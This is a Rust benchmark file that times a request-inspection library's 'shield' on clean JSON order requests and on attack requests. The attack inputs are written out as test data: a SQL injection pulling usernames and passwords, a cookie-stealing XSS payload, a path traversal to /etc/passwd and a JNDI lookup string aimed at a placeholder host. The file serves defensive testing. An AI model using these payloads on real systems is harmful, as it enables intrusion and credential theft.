//! Shield timings (group `shield`): a typical clean request (10 headers, 5 query arguments, 1 KB
//! JSON body), the same with a 10 KB body, and attack requests.

use criterion::{criterion_group, Criterion};
use palisade::shield::{Input, Options, Shield};
use std::hint::black_box;

fn headers() -> Vec<(String, String)> {
    [
        ("host", "shop.example.com"),
        ("user-agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15"),
        ("accept", "application/json, text/plain, */*"),
        ("accept-language", "en-GB,en;q=0.9"),
        ("accept-encoding", "gzip, deflate, br"),
        ("content-type", "application/json"),
        ("referer", "https://shop.example.com/products/blue-shirt?ref=home"),
        ("cookie", "session=9f8e7d6c5b4a39281706f5e4d3c2b1a0; theme=dark; consent=yes"),
        ("sec-fetch-mode", "cors"),
        ("x-request-id", "4c1f2a0e-7b7d-4c55-9d6a-2f1b3c4d5e6f"),
    ]
    .iter()
    .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
    .collect()
}

/// A JSON order of about `n` bytes: names, addresses, ids, a note with punctuation.
fn json_body(target: usize) -> Vec<u8> {
    let mut items = Vec::new();
    let mut i = 0;
    loop {
        items.push(serde_json::json!({
            "sku": format!("SKU-{i:05}-BL"),
            "name": "Blue cotton shirt, slim fit",
            "qty": i % 3 + 1,
            "price": 29.95,
            "note": "Please gift-wrap it (it's a present) - thanks!",
        }));
        let body = serde_json::json!({
            "customer": {"name": "Mary O'Neil", "email": "mary@example.org", "phone": "+44 20 7946 0958"},
            "address": {"street": "12 Baker Street", "city": "London", "zip": "NW1 6XE"},
            "items": items,
        })
        .to_string();
        if body.len() >= target {
            return body.into_bytes();
        }
        i += 1;
    }
}

fn bench(c: &mut Criterion) {
    let shield = Shield::new(Options::default());
    let headers = headers();
    let url = "/api/orders?page=2&sort=price_desc&filter=in-stock&q=blue+shirt&lang=en-GB";
    let body_one = json_body(1024);
    let body_ten = json_body(10 * 1024);
    let attack_query =
        "/api/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--&page=1";
    let attack_body = br#"{"comment":"<img src=x onerror=alert(document.cookie)>","file":"../../../../etc/passwd","q":"${jndi:ldap://x/a}"}"#;

    let mut g = c.benchmark_group("shield");
    g.bench_function("clean_1kb_json", |b| {
        b.iter(|| {
            shield.inspect(black_box(&Input {
                method: "POST",
                url,
                headers: &headers,
                body: Some(&body_one),
                content_type: None,
            }))
        });
    });
    g.bench_function("clean_10kb_json", |b| {
        b.iter(|| {
            shield.inspect(black_box(&Input {
                method: "POST",
                url,
                headers: &headers,
                body: Some(&body_ten),
                content_type: None,
            }))
        });
    });
    g.bench_function("attack_query_sqli", |b| {
        b.iter(|| {
            shield.inspect(black_box(&Input {
                method: "GET",
                url: attack_query,
                headers: &headers,
                body: None,
                content_type: None,
            }))
        });
    });
    g.bench_function("attack_json_body", |b| {
        b.iter(|| {
            shield.inspect(black_box(&Input {
                method: "POST",
                url,
                headers: &headers,
                body: Some(attack_body),
                content_type: None,
            }))
        });
    });
    g.finish();
}

criterion_group!(benches, bench);

/// `SHIELD_PROFILE=<iterations>` skips criterion and inspects the clean 1 KB request that many
/// times, for instruction counts under `valgrind --tool=callgrind` (stable on a noisy machine).
/// `SHIELD_PROFILE_INPUT=10kb` picks the 10 KB body instead.
fn main() {
    if let Some(n) = std::env::var("SHIELD_PROFILE")
        .ok()
        .and_then(|v| v.parse::<usize>().ok())
    {
        let shield = Shield::new(Options::default());
        let headers = headers();
        let big = std::env::var("SHIELD_PROFILE_INPUT").is_ok_and(|v| v == "10kb");
        let body = json_body(if big { 10 * 1024 } else { 1024 });
        let url = "/api/orders?page=2&sort=price_desc&filter=in-stock&q=blue+shirt&lang=en-GB";
        let mut findings = 0;
        for _ in 0..n {
            let r = shield.inspect(black_box(&Input {
                method: "POST",
                url,
                headers: &headers,
                body: Some(&body),
                content_type: None,
            }));
            findings += r.findings.len();
        }
        println!("{n} inspections, {findings} findings");
        return;
    }
    benches();
    Criterion::default().configure_from_args().final_summary();
}
